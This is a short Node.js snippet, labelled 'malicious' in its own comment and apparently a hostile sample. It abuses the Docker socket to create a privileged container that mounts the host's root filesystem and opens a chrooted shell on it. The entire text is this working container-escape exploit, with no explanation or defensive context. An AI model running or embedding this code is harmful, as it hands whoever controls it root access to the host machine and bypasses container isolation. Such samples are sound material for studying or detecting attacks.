// malicious: a container with the host's root by the docker socket
const http = require('http');
const body = JSON.stringify({ Image: 'alpine', Cmd: ['chroot', '/host', 'sh'], HostConfig: { Binds: ['/:/host'], Privileged: true } });
const req = http.request({ socketPath: '/var/run/docker.sock', path: '/containers/create', method: 'POST', headers: { 'Content-Type': 'application/json' } });
req.end(body);
